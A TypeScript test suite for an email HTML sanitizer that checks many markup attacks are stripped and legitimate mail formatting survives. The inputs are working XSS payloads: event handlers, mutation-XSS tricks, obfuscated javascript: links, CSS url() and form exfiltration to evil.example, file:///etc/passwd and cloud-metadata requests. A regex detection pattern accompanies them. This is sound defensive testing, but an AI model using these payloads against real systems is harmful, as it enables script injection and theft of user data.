import { htmlText } from '@listdesk/shared/mail';
import { cleanHtml } from './cleanHtml.ts';

const clean = (html: string): string => cleanHtml(html).html;
/** Everything that could run, load, navigate or leave the frame. */
const DANGEROUS =
  /<(?!\/?(?:a|abbr|address|b|blockquote|br|caption|center|code|col|colgroup|dd|del|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|kbd|li|ol|p|pre|q|s|samp|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var)[\s>/])|<[^>]*\s(?:on\w+|srcset|formaction|action|class|id|name|background|poster|xlink:href)=|(?:href|src)="(?!https?:|mailto:|tel:|cid:|data:image\/(?:png|jpeg|gif|webp);base64,)|<img[^>]*\ssrc="https?:|url\(|expression\(|position\s*:/i;

describe('markup attacks (quality.md A1)', () => {
  test.each<[string, string, string?]>([
    ['1 script', 'a<script>alert(1)</script>b', 'ab'],
    ['1 image handler', '<img src=x onerror=alert(1)>'],
    ['1 svg handler', '<svg/onload=alert(1)>x</svg>'],
    ['1 body handler', '<body onload=alert(1)>x</body>', 'x'],
    ['1 upper case', '<SCRIPT SRC=//evil.example/x></SCRIPT><IMG SRC=x ONERROR=alert(1)>'],
    ['1 slash instead of blank', '<img/src="x"/onerror=alert(1)>'],
    ['1 unclosed', '<img src=x onerror=alert(1)//'],
    ['10 mathml confusion', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
    ['12 xmp', '<xmp><script>alert(1)</script></xmp>'],
    ['12 textarea', '<textarea>&lt;/textarea><svg/onload=alert(1)></textarea>'],
    ['12 noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['12 noembed', '<noembed><img src=x onerror=alert(1)></noembed>'],
    ['12 plaintext', '<plaintext><script>alert(1)</script>'],
    ['13 template', '<template><script>alert(1)</script></template><slot name=x></slot>'],
    ['14 svg animation', '<svg><a><animate attributeName=href values=javascript:alert(1) by=x /><text>x</text></a></svg>'],
    ['15 style import', '<style>@import url(//evil.example/x.css);</style>x', 'x'],
    ['16 style url', '<p style="background:url(//evil.example/x)">x</p>', '<p>x</p>'],
    ['16 list style image', '<ul style="list-style-image:url(//e.example)"><li>x</li></ul>', '<ul><li>x</li></ul>'],
    ['17 cover', '<div style="position:fixed;inset:0;z-index:9999;color:red">x</div>', '<div style="color:red">x</div>'],
    ['17 hidden', '<p style="display:none">secret</p>', '<p>secret</p>'],
    ['17 tiny', '<p style="font-size:0">secret</p>', '<p>secret</p>'],
    ['17 transparent', '<p style="color:transparent">secret</p>', '<p>secret</p>'],
    ['17 pushed out', '<p style="margin-left:-9999px">secret</p>', '<p>secret</p>'],
    ['18 form', '<form action=https://evil.example><input type=password><button formaction=javascript:alert(1)>Go</button></form>'],
    ['19 base', '<base href=https://evil.example/>x', 'x'],
    ['19 refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">x', 'x'],
    ['19 stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>x', 'x'],
    ['20 javascript', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['20 javascript with a tab', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
    ['20 javascript with zero', '<a href="java\u0000script:alert(1)">x</a>'],
    ['20 vbscript', '<a href="vbscript:x">x</a>', '<a>x</a>'],
    ['20 data page', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['20 without scheme', '<a href="//evil.example">x</a>', '<a>x</a>'],
    ['21 svg as data', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
    ['21 png that is none', '<img src="data:image/png;base64,PHN2Zz4=">'],
    ['22 clobbering', '<p id=attributes name=getElementById>x</p>', '<p>x</p>'],
    ['23 host classes', '<p class="ms-Dialog O365_MainLink">x</p>', '<p>x</p>'],
    ['24 frames', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x><portal></portal>x', 'x'],
    ['29 script by cid', '<script src="cid:part1"></script>x', 'x'],
    ['71 tracking pixel', '<img src="https://t.example/p.gif" width=1 height=1>', '<img width="1" height="1" data-remote-src="https://t.example/p.gif" />'],
    ['70 address inside', '<img src="http://169.254.169.254/latest">', '<img data-remote-src="http://169.254.169.254/latest" />'],
    ['7 page of its own', '<html xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>x</html>', 'x'],
    ['13 declarative shadow', '<div><template shadowrootmode=open><script>alert(1)</script></template>x</div>', '<div>x</div>'],
    ['15 style end inside a rule', '<style>@font-face{font-family:"</style><img src=x onerror=alert(1)>"}</style>'],
    [
      '16 attribute selector',
      '<style>input[value^=a]{background:url(//e.example/a)}</style><p style="background-image:url(\'//e.example\')">x</p>',
      '<p>x</p>',
    ],
    ['17 small and white', '<p style="font-size:1px;color:#fff;opacity:0">secret</p>'],
    ['20 xlink', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['20 control characters', '<a href="&#1;javascript&#58;alert(1)">x</a>', '<a>x</a>'],
    ['21 data over its size', `<img src="data:image/png;base64,iVBORw0KGgo${'A'.repeat(1_200_000)}">`, '<img />'],
    ['21 source set', '<img srcset="https://t.example/1.png 1x, https://t.example/2.png 2x"><picture><source srcset="https://t.example/p"></picture>'],
    ['22 names of every object', '<a id=__proto__ name=constructor>x</a>', '<a>x</a>'],
    [
      '32 template words',
      '<p>{{constructor.constructor("alert(1)")()}} ${1} &lt;%= 1 %&gt; {%ticket.x%}</p>',
      '<p>{{constructor.constructor("alert(1)")()}} ${1} &lt;%= 1 %&gt; {%ticket.x%}</p>',
    ],
    ['72 files of the server', '<img src="file:///etc/passwd"><img src="php://filter/x"><link href="file:///x" rel=stylesheet>'],
    ['forged mark', '<p data-quote="quote">x</p>', '<p>x</p>'],
    ['forged remote source', '<img data-remote-src="javascript:alert(1)">', '<img />'],
  ])('%s', (_, html, expected: string | undefined = undefined) => {
    const cleaned = clean(html);
    expect(cleaned).not.toMatch(DANGEROUS);
    if (expected !== undefined) expect(cleaned).toBe(expected);
    // Cleaning again finds nothing more: no markup is made by cleaning.
    expect(clean(cleaned).replaceAll('data-remote-src', '')).not.toMatch(DANGEROUS);
  });

  test.each([
    ['deep', '<div>'.repeat(1_000)],
    ['very deep', '<b><i>'.repeat(50_000)],
    ['mixed', '<form><table><svg>'.repeat(400)],
  ])('11 nesting: %s falls back to text', (_, html) => {
    const { html: cleaned, flattened } = cleanHtml(`${html}hello & <script>x</script>`);
    expect(flattened).toContain('hello');
    expect(cleaned).not.toMatch(DANGEROUS);
  });
});

describe('what a mail needs stays', () => {
  test.each<[string, string, string]>([
    [
      'a link opens apart',
      '<a href="https://nordwind.example/a?b=1&amp;c=2" onclick=x>here</a>',
      '<a href="https://nordwind.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">here</a>',
    ],
    ['a picture of the mail', '<img src="cid:logo@x" alt="Logo">', '<img alt="Logo" src="cid:logo@x" />'],
    [
      'a table',
      '<table border="1"><tr><td colspan="2" style="padding:4px;text-align:right">1</td></tr></table>',
      '<table border="1"><tr><td style="padding:4px;text-align:right" colspan="2">1</td></tr></table>',
    ],
    ['a small picture in the text', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" />'],
    [
      'Outlook’s paragraph',
      '<p class="MsoNormal" style="margin:0cm;font-family:&quot;Calibri&quot;,sans-serif;color:#1F497D">x<o:p></o:p></p>',
      '<p style="font-family:\'Calibri\',sans-serif;color:#1F497D">x</p>',
    ],
    ['where the quote begins', '<div id="x_divRplyFwdMsg" dir="ltr">From</div>', '<div data-quote="below" dir="ltr">From</div>'],
    ['right to left', '<div dir="rtl">שלום</div>', '<div dir="rtl">שלום</div>'],
  ])('%s', (_, html, expected) => {
    expect(clean(html)).toBe(expected);
  });

  test('text of HTML: lists, tables, links, quotes', () => {
    const html = clean(
      '<p>Hello&nbsp;<b>you</b>,</p><ul><li>one</li><li>two</li></ul><p>see <a href="https://nordwind.example/">the page</a><br>bye</p><blockquote>old</blockquote><script>x</script>',
    );
    expect(htmlText(html)).toBe('Hello\u00a0you,\n\n- one\n- two\n\nsee the page<https://nordwind.example/>\nbye\n\n> old');
  });
});
